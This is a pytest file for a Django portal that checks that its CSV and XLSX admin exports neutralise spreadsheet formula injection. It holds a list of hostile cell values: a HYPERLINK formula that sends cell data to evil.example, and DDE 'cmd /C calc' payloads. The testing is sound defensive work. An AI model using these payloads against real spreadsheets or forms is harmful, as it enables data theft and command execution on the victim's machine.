"""Every spreadsheet the portal writes, parsed back: no cell is a live formula.

The exports are produced through the real admin actions (partners, participants), with
values that a hostile applicant, participant or partner could have typed.
"""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from diplomacy.accounts.roles import PARTNERSHIPS, PROGRAMS
from diplomacy.spreadsheets import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_text_read
from tests.factories import StaffFactory
from tests.partners.factories import OrganizationFactory
from tests.programs.factories import RegistrationFactory
from tests.reauthentication import reauthenticated

pytestmark = pytest.mark.django_db

HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A2,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_cell_function_marks_every_trigger_and_leaves_the_rest():
    for value in HOSTILE_CELLS:
        assert spreadsheet_cell(value) == "'" + value
        assert spreadsheet_text_read(spreadsheet_cell(value)) == value
    assert spreadsheet_cell("ليلى") == "ليلى"
    assert spreadsheet_cell(42) == 42
    assert spreadsheet_cell("a=b") == "a=b"


def assert_no_formula_in_csv(content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), f"live formula in the CSV: {cell!r}"
    return len(rows)


def assert_no_formula_in_xlsx(content: bytes) -> int:
    # Not data_only: a formula would show as data_type "f" and a value starting with "=".
    sheet = load_workbook(io.BytesIO(content)).active
    count = 0
    for row in sheet.iter_rows():
        count += 1
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
    return count


@pytest.fixture
def hostile_participants():
    return [
        RegistrationFactory(
            user__first_name=value,
            user__last_name="",
            answers=[{"question_id": 1, "question": "=1+1", "answer": value}],
        )
        for value in HOSTILE_CELLS
    ]


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_participant_exports_hold_no_formula(client, hostile_participants, action):
    member = StaffFactory()
    member.groups.add(Group.objects.get(name=PROGRAMS))
    client.force_login(member)
    reauthenticated(client, member)  # exports ask for the password again
    response = client.post(
        reverse("admin:programs_registration_changelist"),
        {"action": action, "_selected_action": [r.pk for r in hostile_participants]},
    )
    assert response.status_code == 200
    check = assert_no_formula_in_csv if action == "export_csv" else assert_no_formula_in_xlsx
    assert check(response.content) == len(HOSTILE_CELLS) + 1
    # Nothing was lost: the text reads back as typed, without the mark.
    text = response.content.decode("utf-8-sig") if action == "export_csv" else ""
    if text:
        assert "'=HYPERLINK(" in text


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_partner_exports_hold_no_formula(client, action):
    organizations = [
        OrganizationFactory(
            name_en=value, town_en=value, description_en=value, phones=["+96352123456"]
        )
        for value in HOSTILE_CELLS
    ]
    member = StaffFactory()
    member.groups.add(Group.objects.get(name=PARTNERSHIPS))
    client.force_login(member)
    reauthenticated(client, member)
    response = client.post(
        reverse("admin:partners_organization_changelist"),
        {"action": action, "_selected_action": [o.pk for o in organizations]},
    )
    assert response.status_code == 200, response.content[:500]
    check = assert_no_formula_in_csv if action == "export_csv" else assert_no_formula_in_xlsx
    assert check(response.content) == len(HOSTILE_CELLS) + 1


def test_a_partner_export_imports_again_with_its_phone_numbers():
    from partners.models import Organization
    from partners.transfer import organizations_export, organizations_import_preview

    organization = OrganizationFactory(name_en="-Minus Co-op", phones=["+96352123456"])
    content = organizations_export(
        queryset=Organization.objects.filter(pk=organization.pk), file_format="csv", language="en"
    )
    assert b"'+96352123456" in content
    row = organizations_import_preview(content=content, file_format="csv").rows[0]
    assert row.values["phones"] == ["+96352123456"]
    assert row.values["name_en"] == "-Minus Co-op"
